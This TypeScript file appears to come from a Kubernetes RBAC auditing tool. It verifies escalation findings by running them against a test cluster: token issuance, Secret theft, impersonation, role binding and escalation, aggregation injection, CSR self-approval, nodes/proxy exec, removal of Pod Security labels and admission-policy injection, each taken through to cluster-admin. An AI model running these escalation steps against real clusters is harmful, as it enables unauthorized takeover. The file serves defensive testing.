import type { ApiClient } from "./api-client.ts";
import { answered, type ClaimCluster, certificateRequest, isClusterAdmin, until } from "./claim-cluster.ts";

/** What a path rule says of some manifests, and how the identity makes it true. */
export interface PathClaim {
  readonly rule: string;
  readonly name: string;
  /** Part of the title. */
  readonly title: string;
  readonly manifests: string;
  /** Undefined: all of it happens on the server. Else what a cluster without kubelets cannot show. */
  readonly notPerformed?: string;
  /** Does it, and throws where the server does not let it. */
  readonly perform: (cluster: ClaimCluster) => Promise<void>;
}

const rbac = "rbac.authorization.k8s.io";
const jsonOf = <T>(text: string): T => JSON.parse(text);

/** A role with one rule per line (`VERBS GROUP RESOURCES [NAMES]`), bound to one ServiceAccount. */
function granted(name: string, account: string, namespace: string, ...rules: readonly string[]): string {
  const [ofNamespace, ofAccount] = account.split("/");
  const within = namespace === "" ? "" : `, namespace: ${namespace}`;
  const cluster = namespace === "" ? "Cluster" : "";
  const written = rules.map((rule) => {
    const [verbs, group, resources, names] = rule.split(" ");
    const only = names === undefined ? "" : `, resourceNames: [${names}]`;
    return `- {verbs: [${verbs}], apiGroups: ["${group === "core" ? "" : group}"], resources: [${resources}]${only}}`;
  });
  return `---
apiVersion: ${rbac}/v1
kind: ${cluster}Role
metadata: {name: ${name}${within}}
rules:
${written.join("\n")}
---
apiVersion: ${rbac}/v1
kind: ${cluster}RoleBinding
metadata: {name: ${name}${within}}
roleRef: {apiGroup: ${rbac}, kind: ${cluster}Role, name: ${name}}
subjects:
- {kind: ServiceAccount, name: ${ofAccount}, namespace: ${ofNamespace}}
`;
}

function admin(account: string): string {
  const [namespace, name] = account.split("/");
  return `---
apiVersion: v1
kind: ServiceAccount
metadata: {name: ${name}, namespace: ${namespace}}
---
apiVersion: ${rbac}/v1
kind: ClusterRoleBinding
metadata: {name: ${namespace}-${name}}
roleRef: {apiGroup: ${rbac}, kind: ClusterRole, name: cluster-admin}
subjects:
- {kind: ServiceAccount, name: ${name}, namespace: ${namespace}}
`;
}

function pod(namespace: string, name: string, account: string): object {
  return {
    metadata: { name, namespace },
    spec: { serviceAccountName: account, containers: [{ name: "main", image: "registry.example/none" }] },
  };
}

async function expectClusterAdmin(client: ApiClient): Promise<void> {
  await until(() => isClusterAdmin(client));
}

/** Creates a pod under another account's name; what its kubelet would mount is asked for by an administrator. */
async function runPodAs(
  cluster: ClaimCluster,
  client: ApiClient,
  namespace: string,
  account: string,
): Promise<ApiClient> {
  const name = `run-as-${account}`;
  const path = `/api/v1/namespaces/${namespace}/pods`;
  await answered(() => client.ask("POST", path, pod(namespace, name, account)), 201, 409);
  const { metadata } = await cluster.admin.send<{ readonly metadata: { readonly uid: string } }>(
    "GET",
    `${path}/${name}`,
  );
  const boundObjectRef = { apiVersion: "v1", kind: "Pod", name, uid: metadata.uid };
  const issued = await cluster.admin.send<{ readonly status: { readonly token: string } }>(
    "POST",
    `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`,
    { spec: { boundObjectRef } },
  );
  return cluster.withToken(issued.status.token);
}

const everything = { rules: [{ verbs: ["*"], apiGroups: ["*"], resources: ["*"] }] };

export const pathClaims: readonly PathClaim[] = [
  {
    rule: "path-pod-create-to-sa",
    name: "pods in kube-system under the account of a controller",
    title: "ServiceAccount ci/deployer can run pods as any ServiceAccount of kube-system, which makes it cluster-admin",
    manifests: granted("smoke-test", "ci/deployer", "kube-system", "create,get,delete core pods"),
    notPerformed: "no kubelet runs the pod: its token is issued as a kubelet would ask for it",
    async perform(cluster) {
      const deployer = await cluster.as("ci", "deployer");
      const controller = await runPodAs(cluster, deployer, "kube-system", "clusterrole-aggregation-controller");
      // Whatever it writes there it has: this is the role it is bound to itself.
      const own = `/apis/${rbac}/v1/clusterroles/system:controller:clusterrole-aggregation-controller`;
      await answered(() => controller.ask("PATCH", own, everything), 200);
      await expectClusterAdmin(controller);
    },
  },
  {
    rule: "path-pod-create-to-sa",
    name: "a deployment that names the account",
    title: "ServiceAccount shop/ci can run workloads as any ServiceAccount of ops, which makes it cluster-admin",
    manifests: granted("rollout", "shop/ci", "ops", "patch apps deployments web") + admin("ops/backup"),
    notPerformed: "no controller makes its pods, no kubelet runs them",
    async perform(cluster) {
      const path = "/apis/apps/v1/namespaces/ops/deployments";
      await cluster.admin.send(
        "POST",
        path,
        {
          metadata: { name: "web" },
          spec: {
            selector: { matchLabels: { app: "web" } },
            template: {
              metadata: { labels: { app: "web" } },
              spec: { containers: [{ name: "main", image: "registry.example/none" }] },
            },
          },
        },
        [409],
      );
      const ci = await cluster.as("shop", "ci");
      const template = { spec: { template: { spec: { serviceAccountName: "backup" } } } };
      await answered(() => ci.ask("PATCH", `${path}/web`, template), 200);
      await expectClusterAdmin(await cluster.as("ops", "backup"));
    },
  },
  {
    rule: "path-pod-takeover-to-sa",
    name: "another image in a pod that runs as a cluster-admin",
    title: "ServiceAccount shop/debugger can run commands in every pod of ops",
    manifests: `${granted("debug", "shop/debugger", "ops", "get,patch core pods", "patch core pods/ephemeralcontainers")}${admin("ops/backup")}---
apiVersion: v1
kind: Pod
metadata: {name: nightly, namespace: ops}
spec:
  serviceAccountName: backup
  containers: [{name: main, image: registry.example/backup}]
`,
    notPerformed: "no kubelet runs the new image: that the server takes it is shown",
    async perform(cluster) {
      const debuggerAccount = await cluster.as("shop", "debugger");
      const path = "/api/v1/namespaces/ops/pods/nightly";
      const image = { spec: { containers: [{ name: "main", image: "registry.example/mine" }] } };
      const strategic = { "content-type": "application/strategic-merge-patch+json" };
      await answered(() => debuggerAccount.ask("PATCH", path, image, strategic), 200);
      const shell = { spec: { ephemeralContainers: [{ name: "sh", image: "registry.example/sh" }] } };
      await answered(() => debuggerAccount.ask("PATCH", `${path}/ephemeralcontainers`, shell, strategic), 200);
      await expectClusterAdmin(await cluster.as("ops", "backup"));
    },
  },
  {
    rule: "path-token-to-sa",
    name: "a token that is asked for",
    title: "ServiceAccount shop/vault can issue tokens of every ServiceAccount of ops",
    manifests: granted("tokens", "shop/vault", "ops", "create core serviceaccounts/token") + admin("ops/backup"),
    async perform(cluster) {
      const vault = await cluster.as("shop", "vault");
      const path = "/api/v1/namespaces/ops/serviceaccounts/backup/token";
      const { text } = await answered(() => vault.ask("POST", path, { spec: {} }), 201);
      const { status } = jsonOf<{ status: { token: string } }>(text);
      await expectClusterAdmin(cluster.withToken(status.token));
    },
  },
  {
    rule: "path-token-to-sa",
    name: "a token Secret that is there",
    title: "ServiceAccount shop/reader can read every Secret in ops",
    manifests: `${granted("reader", "shop/reader", "ops", "list core secrets")}${admin("ops/backup")}---
apiVersion: v1
kind: Secret
metadata: {name: backup-token, namespace: ops, annotations: {kubernetes.io/service-account.name: backup}}
type: kubernetes.io/service-account-token
`,
    async perform(cluster) {
      const reader = await cluster.as("shop", "reader");
      await expectClusterAdmin(cluster.withToken(await tokenIn(reader, "ops", "backup-token")));
    },
  },
  {
    rule: "path-token-to-sa",
    name: "a token Secret that it writes and then reads",
    title: "ServiceAccount shop/writer can",
    manifests: granted("writer", "shop/writer", "ops", "create,get,list core secrets") + admin("ops/backup"),
    async perform(cluster) {
      const writer = await cluster.as("shop", "writer");
      const secret = {
        metadata: { name: "mine", annotations: { "kubernetes.io/service-account.name": "backup" } },
        type: "kubernetes.io/service-account-token",
      };
      await answered(() => writer.ask("POST", "/api/v1/namespaces/ops/secrets", secret), 201);
      await expectClusterAdmin(cluster.withToken(await tokenIn(writer, "ops", "mine")));
    },
  },
  {
    rule: "path-impersonate-chain",
    name: "an account that may issue tokens of a cluster-admin",
    title: "ServiceAccount shop/proxy can act as",
    manifests:
      granted("proxy", "shop/proxy", "dev", "impersonate core serviceaccounts issuer") +
      granted("issuer", "dev/issuer", "ops", "create core serviceaccounts/token") +
      admin("ops/backup"),
    async perform(cluster) {
      const proxy = await cluster.as("shop", "proxy");
      const path = "/api/v1/namespaces/ops/serviceaccounts/backup/token";
      const headers = { "impersonate-user": "system:serviceaccount:dev:issuer" };
      const { text } = await answered(() => proxy.ask("POST", path, { spec: {} }, headers), 201);
      await expectClusterAdmin(cluster.withToken(jsonOf<{ status: { token: string } }>(text).status.token));
    },
  },
  {
    rule: "path-bind-or-escalate",
    name: "a role bound to itself, in a namespace whose account is cluster-admin",
    title: "ServiceAccount shop/binder can bind ClusterRole edit to itself in ops, which makes it cluster-admin",
    manifests:
      granted("binder", "shop/binder", "ops", `bind ${rbac} clusterroles edit`, `create ${rbac} rolebindings`) +
      admin("ops/backup"),
    async perform(cluster) {
      const binder = await cluster.as("shop", "binder");
      const binding = {
        metadata: { name: "binder-edits" },
        roleRef: { apiGroup: rbac, kind: "ClusterRole", name: "edit" },
        subjects: [{ kind: "ServiceAccount", name: "binder", namespace: "shop" }],
      };
      await answered(() => binder.ask("POST", `/apis/${rbac}/v1/namespaces/ops/rolebindings`, binding), 201);
      const path = "/api/v1/namespaces/ops/serviceaccounts/backup/token";
      const { text } = await answered(() => binder.ask("POST", path, { spec: {} }), 201);
      await expectClusterAdmin(cluster.withToken(jsonOf<{ status: { token: string } }>(text).status.token));
    },
  },
  {
    rule: "path-bind-or-escalate",
    name: "its own role with every right",
    title: "ServiceAccount shop/editor can write any right into",
    manifests: granted("role-editor", "shop/editor", "", `escalate,patch ${rbac} clusterroles role-editor`),
    async perform(cluster) {
      const editor = await cluster.as("shop", "editor");
      await answered(() => editor.ask("PATCH", `/apis/${rbac}/v1/clusterroles/role-editor`, everything), 200);
      await expectClusterAdmin(editor);
    },
  },
  {
    rule: "path-aggregation-injection",
    name: "a label that lets viewers read Secrets",
    title: "ClusterRole secrets-view lets ServiceAccount shop/dashboard, bound to view, read every Secret in ops",
    manifests: `apiVersion: ${rbac}/v1
kind: ClusterRole
metadata:
  name: secrets-view
  labels: {rbac.authorization.k8s.io/aggregate-to-view: "true"}
rules:
- {apiGroups: [""], resources: [secrets], verbs: [get, list]}
---
apiVersion: ${rbac}/v1
kind: RoleBinding
metadata: {name: dashboard, namespace: ops}
roleRef: {apiGroup: ${rbac}, kind: ClusterRole, name: view}
subjects:
- {kind: ServiceAccount, name: dashboard, namespace: shop}
`,
    async perform(cluster) {
      const dashboard = await cluster.as("shop", "dashboard");
      await answered(() => dashboard.ask("GET", "/api/v1/namespaces/ops/secrets"), 200);
      await cluster.admin.send("DELETE", `/apis/${rbac}/v1/clusterroles/secrets-view`);
      await until(async () => (await dashboard.ask("GET", "/api/v1/namespaces/ops/secrets")).status === 403);
    },
  },
  {
    rule: "path-aggregation-injection",
    name: "a role that aggregation brings into view",
    title: "ServiceAccount shop/extender can",
    manifests: `${granted("extender", "shop/extender", "", `escalate,create ${rbac} clusterroles`)}---
apiVersion: ${rbac}/v1
kind: ClusterRoleBinding
metadata: {name: extender-views}
roleRef: {apiGroup: ${rbac}, kind: ClusterRole, name: view}
subjects:
- {kind: ServiceAccount, name: extender, namespace: shop}
`,
    async perform(cluster) {
      const extender = await cluster.as("shop", "extender");
      const labels = { "rbac.authorization.k8s.io/aggregate-to-view": "true" };
      const role = { metadata: { name: "brought-in", labels }, ...everything };
      await answered(() => extender.ask("POST", `/apis/${rbac}/v1/clusterroles`, role), 201);
      await expectClusterAdmin(extender);
      await cluster.admin.send("DELETE", `/apis/${rbac}/v1/clusterroles/brought-in`);
    },
  },
  {
    rule: "path-csr-to-identity",
    name: "a certificate for a bound administrator",
    title:
      "ServiceAccount shop/approver can ask for a client certificate of any user and approve it, which makes it cluster-admin",
    manifests: `${granted(
      "approver",
      "shop/approver",
      "",
      "create,get certificates.k8s.io certificatesigningrequests",
      "update certificates.k8s.io certificatesigningrequests/approval",
      "approve certificates.k8s.io signers kubernetes.io/kube-apiserver-client",
    )}---
apiVersion: ${rbac}/v1
kind: ClusterRoleBinding
metadata: {name: alice}
roleRef: {apiGroup: ${rbac}, kind: ClusterRole, name: cluster-admin}
subjects:
- {kind: User, apiGroup: ${rbac}, name: alice}
`,
    async perform(cluster) {
      const approver = await cluster.as("shop", "approver");
      const { key, request } = certificateRequest("alice", "anybody");
      const path = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
      const spec = { request, signerName: "kubernetes.io/kube-apiserver-client", usages: ["client auth"] };
      const made = await answered(() => approver.ask("POST", path, { metadata: { name: "alice" }, spec }), 201);
      const conditions = [{ type: "Approved", status: "True", reason: "Mine", message: "" }];
      const approved = { ...jsonOf<object>(made.text), status: { conditions } };
      await answered(() => approver.ask("PUT", `${path}/alice/approval`, approved), 200);
      let certificate = "";
      await until(async () => {
        const { text } = await approver.ask("GET", `${path}/alice`);
        certificate = jsonOf<{ status?: { certificate?: string } }>(text).status?.certificate ?? "";
        return certificate !== "";
      });
      await expectClusterAdmin(cluster.withCertificate(Buffer.from(certificate, "base64").toString("utf8"), key));
    },
  },
  {
    rule: "path-node-to-workloads",
    name: "the kubelets' API",
    title: "ServiceAccount shop/metrics can run commands in every pod through the kubelets",
    manifests: `${granted("metrics", "shop/metrics", "", "get core nodes/proxy")}${admin("ops/backup")}---
apiVersion: v1
kind: Pod
metadata: {name: hourly, namespace: ops}
spec:
  serviceAccountName: backup
  containers: [{name: main, image: registry.example/backup}]
`,
    notPerformed: "no kubelet answers: that the server hands the request on is shown",
    async perform(cluster) {
      await cluster.admin.send("POST", "/api/v1/nodes", { metadata: { name: "one" } }, [409]);
      const metrics = await cluster.as("shop", "metrics");
      const exec = "/api/v1/nodes/one/proxy/exec/ops/hourly/main?command=id&output=1";
      // 403 is the authorizer; what comes instead is that the node has no address.
      await answered(() => metrics.ask("GET", exec), 400, 404, 500, 502, 503);
    },
  },
  {
    rule: "path-namespace-policy-bypass",
    name: "a privileged pod where none is allowed",
    title: "ServiceAccount shop/tenant can take Pod Security off sandbox and run privileged pods there",
    manifests: `apiVersion: v1
kind: Namespace
metadata: {name: sandbox, labels: {pod-security.kubernetes.io/enforce: restricted}}
${granted("labels", "shop/tenant", "", "patch core namespaces")}${granted("tenant", "shop/tenant", "sandbox", "create core pods")}`,
    notPerformed: "no node is there to be taken over: that the server takes the privileged pod is shown",
    async perform(cluster) {
      const tenant = await cluster.as("shop", "tenant");
      const path = "/api/v1/namespaces/sandbox";
      const container = { name: "main", image: "registry.example/none", securityContext: { privileged: true } };
      const privileged = { metadata: { name: "root" }, spec: { hostPID: true, containers: [container] } };
      await until(async () => (await cluster.admin.ask("GET", `${path}/serviceaccounts/default`)).status === 200);
      const refused = await answered(() => tenant.ask("POST", `${path}/pods`, privileged), 403);
      if (!refused.text.includes("PodSecurity")) throw new Error(refused.text);
      const labels = { "pod-security.kubernetes.io/enforce": "privileged" };
      await answered(() => tenant.ask("PATCH", path, { metadata: { labels } }), 200);
      await answered(() => tenant.ask("POST", `${path}/pods`, privileged), 201);
    },
  },
  {
    rule: "path-admission-control",
    name: "a policy that adds itself to every binding",
    title:
      "ServiceAccount shop/policies can rewrite every pod on its way into the cluster, which makes it cluster-admin",
    manifests: `${granted(
      "policies",
      "shop/policies",
      "",
      "create admissionregistration.k8s.io mutatingadmissionpolicies,mutatingadmissionpolicybindings",
    )}${admin("ops/backup")}---
apiVersion: v1
kind: Pod
metadata: {name: weekly, namespace: ops}
spec:
  serviceAccountName: backup
  containers: [{name: main, image: registry.example/backup}]
`,
    async perform(cluster) {
      const policies = await cluster.as("shop", "policies");
      const group = "/apis/admissionregistration.k8s.io/v1";
      const rule = {
        apiGroups: [rbac],
        apiVersions: ["v1"],
        operations: ["CREATE"],
        resources: ["clusterrolebindings"],
      };
      const account = 'Object.subjects{kind: "ServiceAccount", name: "policies", namespace: "shop"}';
      const expression = `[JSONPatch{op: "add", path: "/subjects/-", value: ${account}}]`;
      const policy = {
        metadata: { name: "add-me" },
        spec: {
          matchConstraints: { resourceRules: [rule] },
          failurePolicy: "Fail",
          reinvocationPolicy: "Never",
          mutations: [{ patchType: "JSONPatch", jsonPatch: { expression } }],
        },
      };
      const binding = { metadata: { name: "add-me" }, spec: { policyName: "add-me" } };
      await answered(() => policies.ask("POST", `${group}/mutatingadmissionpolicies`, policy), 201);
      await answered(() => policies.ask("POST", `${group}/mutatingadmissionpolicybindings`, binding), 201);
      // An administrator binds somebody else, and has bound this account too.
      let round = 0;
      await until(async () => {
        await cluster.admin.send("POST", `/apis/${rbac}/v1/clusterrolebindings`, {
          metadata: { name: `somebody-else-${round++}` },
          roleRef: { apiGroup: rbac, kind: "ClusterRole", name: "cluster-admin" },
          subjects: [{ kind: "User", apiGroup: rbac, name: "somebody-else" }],
        });
        return isClusterAdmin(policies);
      });
      await cluster.admin.send("DELETE", `${group}/mutatingadmissionpolicybindings/add-me`);
    },
  },
  {
    rule: "path-workload-to-cluster-admin",
    name: "from a pod to cluster-admin",
    title: "Pod shop/agent",
    manifests: `${granted("agent", "shop/agent", "ops", "create core serviceaccounts/token")}${admin("ops/backup")}---
apiVersion: v1
kind: Pod
metadata: {name: agent, namespace: shop}
spec:
  serviceAccountName: agent
  containers: [{name: main, image: registry.example/agent}]
`,
    notPerformed: "no kubelet runs the pod: its token is issued as a kubelet would ask for it",
    async perform(cluster) {
      const agent = await runPodAs(cluster, cluster.admin, "shop", "agent");
      const path = "/api/v1/namespaces/ops/serviceaccounts/backup/token";
      const { text } = await answered(() => agent.ask("POST", path, { spec: {} }), 201);
      await expectClusterAdmin(cluster.withToken(jsonOf<{ status: { token: string } }>(text).status.token));
    },
  },
];

/** The token that the controller has put into a Secret, as somebody reads it. */
async function tokenIn(client: ApiClient, namespace: string, name: string): Promise<string> {
  let token = "";
  await until(async () => {
    const { text } = await client.ask("GET", `/api/v1/namespaces/${namespace}/secrets`);
    const { items = [] } = jsonOf<{
      items?: readonly { metadata: { name: string }; data?: { token?: string } }[];
    }>(text);
    token = items.find(({ metadata }) => metadata.name === name)?.data?.token ?? "";
    return token !== "";
  });
  return Buffer.from(token, "base64").toString("utf8");
}
